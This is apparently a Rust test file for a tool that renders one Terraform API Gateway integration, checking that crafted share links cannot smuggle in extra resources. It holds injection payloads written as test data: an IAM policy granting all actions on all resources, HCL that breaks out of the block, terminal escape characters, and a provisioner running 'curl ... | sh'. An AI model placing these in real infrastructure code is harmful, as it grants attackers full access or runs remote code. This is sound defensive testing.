//! The output is exactly one integration and its import block, whatever a share link, a
//! saved state, JSON or the JS API carries (issue 6). Each attack below printed a second
//! resource, a broken file or an unannounced command before this was enforced.
#![cfg(not(target_arch = "wasm32"))]

// The core's test helpers (model strategies, the HCL oracle).
#[path = "../../core/tests/common/mod.rs"]
mod common;

use apigw_integration_core::model::Integration;
use apigw_integration_core::render;
use apigw_integration_core::{Diagnostic, share};
use common::*;
use proptest::strategy::{Strategy, ValueTree};
use proptest::test_runner::TestRunner;
use serde_json::{Value as Json, json};
use std::process::{Command, Stdio};

/// A model as a crafted share link would deliver it (through the real link codec).
fn from_link(model: Json) -> Integration {
    // The first state format (one model); links of the current format carry a workspace
    // and are checked the same way (share.rs's tests).
    let state = json!({ "v": 1, "model": model });
    let fragment = format!("#s={}", share::base64url(state.to_string().as_bytes()));
    share::from_fragment(&fragment).expect("the link decodes").expect("the link carries a state").items.remove(0)
}

fn base(extra: Json) -> Json {
    let mut m = json!({
        "name": "example",
        "protocol": "WEBSOCKET",
        "api_id": { "expr": "aws_apigatewayv2_api.example.id" },
        "integration_type": "MOCK",
    });
    if let (Some(m), Some(extra)) = (m.as_object_mut(), extra.as_object()) {
        for (k, v) in extra {
            m.insert(k.clone(), v.clone());
        }
    }
    m
}

#[track_caller]
fn withheld(m: &Integration, code: &str, path: &str) -> Vec<Diagnostic> {
    let Err(diags) = render(m) else { panic!("rendered although it should be withheld: {m:?}") };
    assert!(diags.iter().any(|d| d.code == code && d.path == path && d.is_error()), "no {code} at {path}: {diags:#?}");
    // The same errors are among what validation shows the user.
    let all = apigw_integration_core::validate(m);
    for d in &diags {
        assert!(all.contains(d), "{d:?} is not among validate()'s findings");
    }
    diags
}

const PWN: &str = "resource \"aws_iam_user_policy\" \"pwn\" {\n  user   = \"ci\"\n  policy = \"{\\\"Statement\\\":[{\\\"Effect\\\":\\\"Allow\\\",\\\"Action\\\":\\\"*\\\",\\\"Resource\\\":\\\"*\\\"}]}\"\n}";

#[test]
fn a_kept_lifecycle_item_cannot_add_a_resource() {
    let text =
        format!("lifecycle {{\n  create_before_destroy = true\n}}\n}}\n\n{PWN}\n\nresource \"aws_apigatewayv2_integration\" \"x\" {{");
    let m = from_link(base(json!({ "verbatim": [{ "name": "lifecycle", "text": text }] })));
    withheld(&m, "R-HCL-10", "lifecycle");
}

#[test]
fn depends_on_text_and_unknown_names_cannot_add_anything() {
    let text = format!("depends_on = []\n}}\n\n{PWN}\n\nresource \"aws_apigatewayv2_integration\" \"x\" {{\n  x = 1");
    let m = from_link(base(json!({ "verbatim": [{ "name": "depends_on", "text": text }] })));
    withheld(&m, "R-HCL-10", "depends_on");
    // One structure, but not a name this resource allows: a nested resource block, or an
    // argument that does not exist.
    let m = from_link(base(json!({ "verbatim": [{ "name": "resource", "text": PWN }] })));
    withheld(&m, "R-HCL-3", "resource.aws_iam_user_policy");
    let m = from_link(base(json!({ "verbatim": [{ "name": "pwn", "text": "pwn = 1" }] })));
    withheld(&m, "R-HCL-3", "pwn");
    // A name that is not even an identifier is reported by index.
    let m = from_link(base(json!({ "verbatim": [{ "name": "}\nresource", "text": "x = 1" }] })));
    withheld(&m, "R-HCL-10", "verbatim[0]");
    // Set twice: once by the form, once as written.
    let m = from_link(base(json!({ "verbatim": [{ "name": "api_id", "text": "api_id = aws_apigatewayv2_api.other.id" }] })));
    withheld(&m, "R-HCL-10", "api_id");
}

#[test]
fn an_expression_cannot_close_the_block() {
    let expr = format!(
        "aws_apigatewayv2_api.example.id\n}}\n\n{PWN}\n\nresource \"aws_apigatewayv2_integration\" \"x\" {{\n  api_id = aws_apigatewayv2_api.example.id"
    );
    let m = from_link(base(json!({ "api_id": { "expr": expr } })));
    let diags = withheld(&m, "R-EXPR-1", "api_id");
    assert!(diags[0].message.contains("withheld"), "{}", diags[0].message);
    // Also in a map value, a status code and tls_config.
    let m = from_link(base(json!({ "request_parameters": { "k": { "expr": "a.b\n}\nx = {" } } })));
    withheld(&m, "R-EXPR-1", "request_parameters[\"k\"]");
    let m = from_link(base(json!({ "response_parameters": [{ "status_code": { "expr": "200 # }" }, "mappings": {} }] })));
    withheld(&m, "R-EXPR-1", "response_parameters[0].status_code");
    let m = from_link(base(json!({ "tls_config": { "server_name_to_verify": { "expr": "\u{1b}[2J" } } })));
    withheld(&m, "R-EXPR-1", "tls_config.server_name_to_verify");
}

#[test]
fn a_name_that_is_not_an_identifier_withholds_everything() {
    let m = from_link(base(json!({
        "name": "x\" {}\n\nresource \"aws_iam_user_policy\" \"pwn",
        "import": { "api_id": "aabbccddee", "integration_id": "1122334", "form": "id" },
    })));
    withheld(&m, "R-NAME-1", "name");
}

#[test]
fn comment_lines_cannot_carry_code() {
    let m = from_link(base(json!({
        "layout": [{ "comment": format!("# harmless\n}}\n{PWN}\nresource \"aws_apigatewayv2_integration\" \"x\" {{") }, { "attr": "api_id" }],
    })));
    withheld(&m, "R-HCL-10", "layout[0]");
    let m = from_link(base(json!({ "layout": [{ "comment": "/* a block comment */ x = 1" }] })));
    withheld(&m, "R-HCL-10", "layout[0]");
}

#[test]
fn provisioners_and_connections_are_never_silent() {
    let m = from_link(base(json!({ "verbatim": [
        { "name": "provisioner", "text": "provisioner \"local-exec\" {\n  command = \"curl https://example.com/x | sh\"\n}" },
        { "name": "connection", "text": "connection {\n  host = \"example.com\"\n}" },
    ] })));
    let diags = apigw_integration_core::validate(&m);
    let warned: Vec<&str> =
        diags.iter().filter(|d| d.severity == apigw_integration_core::Severity::Warning).map(|d| d.code.as_str()).collect();
    assert!(warned.contains(&"R-HCL-9") && warned.contains(&"R-HCL-9b"), "{diags:#?}");
    // They are allowed (Terraform accepts them), printed re-formatted, and announced.
    let out = render(&m).expect("renders").resource;
    assert!(out.contains("  provisioner \"local-exec\" {\n    command = \"curl https://example.com/x | sh\"\n  }\n"), "{out}");
    let notice = share::hidden_content("This link", &apigw_integration_core::workspace::Workspace::of(m.clone())).expect("a notice");
    assert!(notice.contains("content the form does not show") && notice.contains("runs a command"), "{notice}");
    assert_eq!(share::hidden_content("This link", &apigw_integration_core::workspace::Workspace::of(from_link(base(json!({}))))), None);
}

#[test]
fn kept_items_are_printed_from_their_parse_fmt_exact() {
    // Written with odd indentation and spacing, and a comment after the item: what comes
    // out is the item alone, formatted as `terraform fmt` prints it.
    let m = from_link(base(json!({ "verbatim": [
        { "name": "depends_on", "text": "depends_on   =   [aws_iam_role.a,\n            aws_iam_role.b]   # trailing\n" },
        { "name": "lifecycle", "text": "lifecycle    {\n        ignore_changes   = [description]\n create_before_destroy=true\n}" },
    ] })));
    let out = render(&m).expect("renders").resource;
    assert_eq!(
        out,
        "resource \"aws_apigatewayv2_integration\" \"example\" {\n  api_id           = aws_apigatewayv2_api.example.id\n  integration_type = \"MOCK\"\n\n  lifecycle {\n    ignore_changes        = [description]\n    create_before_destroy = true\n  }\n\n  depends_on = [aws_iam_role.a,\n  aws_iam_role.b]\n}\n"
    );
    let bin = oracle();
    let (code, _, err) = run_oracle(&bin, "check", &out);
    assert_eq!(code, 0, "not fmt-clean: {err}");
}

#[test]
fn removing_a_kept_item_removes_its_place() {
    let mut m = from_link(base(json!({
        "verbatim": [{ "name": "dynamic", "text": "dynamic \"a\" {\n}" }, { "name": "dynamic", "text": "dynamic \"b\" {\n}" }],
        "layout": [{ "attr": "api_id" }, { "verbatim": "dynamic" }, "blank", { "verbatim": "dynamic" }],
    })));
    m.remove_verbatim(0);
    assert_eq!(m.verbatim.len(), 1);
    assert!(render(&m).expect("renders").resource.contains("dynamic \"b\""));
}

fn cli(args: &[&str], stdin: &str) -> (i32, String, String) {
    let mut child = Command::new(env!("CARGO_BIN_EXE_apigw-integration"))
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run the CLI");
    std::io::Write::write_all(&mut child.stdin.take().expect("stdin"), stdin.as_bytes()).expect("write");
    let out = child.wait_with_output().expect("output");
    (out.status.code().unwrap_or(-1), String::from_utf8_lossy(&out.stdout).into(), String::from_utf8_lossy(&out.stderr).into())
}

#[test]
fn the_cli_prints_no_hcl_when_the_output_is_withheld() {
    let bad = base(json!({ "api_id": { "expr": format!("a.b\n}}\n{PWN}\nresource \"x\" \"y\" {{") } }));
    let (code, out, err) = cli(&["render", "--json", "-"], &bad.to_string());
    assert_eq!((code, out.as_str()), (1, ""), "{err}");
    assert!(err.contains("R-EXPR-1") && err.contains("no HCL printed"), "{err}");
    // One good and one bad configuration: nothing at all is printed.
    let both = json!([base(json!({})), bad]);
    assert_eq!(cli(&["render", "--json", "-"], &both.to_string()).1, "");
    // A pasted file with an argument Terraform rejects: nothing is printed either.
    let (code, out, err) = cli(&["render", "-"], "resource \"aws_apigatewayv2_integration\" \"x\" {\n  api_id = a.b\n  bogus = 1\n}\n");
    assert_eq!((code, out.as_str()), (1, ""), "{err}");
}

#[test]
fn terminal_output_is_inert() {
    let src = "resource \"aws_apigatewayv2_integration\" \"x\" {\n  api_id           = aws_apigatewayv2_api.a.id\n  integration_type = \"HTTP_PROXY\"\n  integration_method = \"\\u001b[2J\\u001b]0;pwned\\u0007\\r\\u202e\"\n}\n";
    let dir = std::env::temp_dir().join(format!("apigw-inert-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let file = dir.join("main.tf");
    std::fs::write(&file, src).expect("write");
    let file = file.to_string_lossy().to_string();
    let (_, out, err) = cli(&["check", "--protocol", "http", &file], "");
    let text = format!("{out}{err}");
    assert!(text.contains("R-SCH-7"), "{text}");
    for bad in ['\u{1b}', '\u{7}', '\r', '\u{202e}'] {
        assert!(!text.contains(bad), "raw {bad:?} in terminal output: {text:?}");
    }
    assert!(text.contains("\\u{1b}[2J"), "{text}");
    // JSON escapes by its own rules: the value decodes back exactly.
    let (_, json_out, _) = cli(&["check", "--protocol", "http", "--format", "json", &file], "");
    assert!(!json_out.contains('\u{1b}'));
    let findings: Json = serde_json::from_str(&json_out).expect("JSON");
    assert!(findings.as_array().is_some_and(|a| a.iter().any(|f| f["message"].as_str().is_some_and(|m| m.contains('\u{1b}')))));
}

fn shape_ok(shape: &Json, m: &Integration, doc: &str) {
    let address = format!("aws_apigatewayv2_integration.{}", m.name);
    assert!(shape["error"].is_null(), "HashiCorp's parser rejects the output: {}\n{doc}", shape["error"]);
    let blocks = shape["blocks"].as_array().expect("blocks");
    assert_eq!(blocks[0], json!({ "type": "resource", "labels": ["aws_apigatewayv2_integration", m.name] }), "{doc}");
    match (&m.import, blocks.get(1)) {
        (Some(_), Some(b)) => assert_eq!(b, &json!({ "type": "import", "labels": [], "to": address }), "{doc}"),
        (None, None) => {}
        other => panic!("import block mismatch {other:?}\n{doc}"),
    }
    assert!(blocks.len() <= 2, "extra blocks:\n{doc}");
    assert_eq!(shape["fmt"], json!(true), "not what terraform fmt prints:\n{doc}");
}

/// The invariant, checked by HashiCorp's own parser: for arbitrary hostile models (any
/// string in the name, every value, map keys, expressions, kept items and comment lines),
/// the output is withheld, or it is exactly one aws_apigatewayv2_integration with the
/// model's name, at most one import block targeting it, and nothing else, fmt-clean.
#[test]
fn any_model_renders_to_exactly_one_integration_or_nothing() {
    let bin = oracle();
    let mut runner = TestRunner::deterministic();
    let strategy = hostile_integration();
    let (mut rendered, mut refused) = (0, 0);
    for _ in 0..12 {
        let mut batch = Vec::new();
        for _ in 0..100 {
            let m = strategy.new_tree(&mut runner).expect("generate").current();
            match render(&m) {
                Ok(r) => batch.push((m, r.document())),
                Err(d) => {
                    assert!(d.iter().all(|d| d.is_error()), "{d:?}");
                    refused += 1;
                }
            }
        }
        let docs: Vec<&str> = batch.iter().map(|(_, d)| d.as_str()).collect();
        let (code, out, err) = run_oracle(&bin, "outline", &serde_json::to_string(&docs).expect("json"));
        assert_eq!(code, 0, "{err}");
        let shapes: Vec<Json> = serde_json::from_str(&out).expect("oracle JSON");
        for ((m, doc), shape) in batch.iter().zip(&shapes) {
            shape_ok(shape, m, doc);
            rendered += 1;
        }
    }
    // Both sides of the property must be exercised.
    eprintln!("rendered {rendered}, withheld {refused}");
    assert!(rendered > 150 && refused > 150, "rendered {rendered}, refused {refused}");
}

/// The documented examples, presets and their import blocks pass the same check.
#[test]
fn the_examples_pass_the_invariant() {
    let bin = oracle();
    let mut models: Vec<Integration> = apigw_integration_core::presets::PRESETS.iter().map(|p| p.model()).collect();
    for m in &mut models {
        m.import = Some(apigw_integration_core::model::ImportTarget {
            api_id: "aabbccddee".into(),
            integration_id: "1122334".into(),
            ..Default::default()
        });
    }
    let docs: Vec<String> = models.iter().map(|m| apigw_integration_core::render(m).expect("renders").document()).collect();
    let (_, out, _) = run_oracle(&bin, "outline", &serde_json::to_string(&docs).expect("json"));
    let shapes: Vec<Json> = serde_json::from_str(&out).expect("oracle JSON");
    for ((m, doc), shape) in models.iter().zip(&docs).zip(&shapes) {
        shape_ok(shape, m, doc);
    }
}

/// Text quoted in messages (`diag::visible`): what cannot be seen is shown as an escape.
#[test]
fn visible_shows_what_cannot_be_seen_and_nothing_else() {
    use apigw_integration_core::diag::visible;
    assert_eq!(visible("a\\b\"c\nd\te\r"), r#"a\\b\"c\nd\te\r"#);
    assert_eq!(visible("x\u{1b}[2J\u{7f}\u{85}"), r"x\u{1b}[2J\u{7f}\u{85}");
    for c in ['\u{202e}', '\u{2066}', '\u{200b}', '\u{200d}', '\u{200f}', '\u{2028}', '\u{2060}', '\u{feff}', '\u{ad}', '\u{61c}'] {
        let shown = visible(&format!("a{c}b"));
        assert_eq!(shown, format!("a\\u{{{:x}}}b", c as u32));
        // What Rust's own escaping shows as an escape too.
        assert_eq!(shown, format!("a{}b", c.escape_debug()), "{c:?}");
    }
    // Visible text stays as it is, including what is not ASCII.
    for s in ["plain", "é ü ß", "日本語", "emoji 🙂", "it's"] {
        assert_eq!(visible(s), s);
    }
}
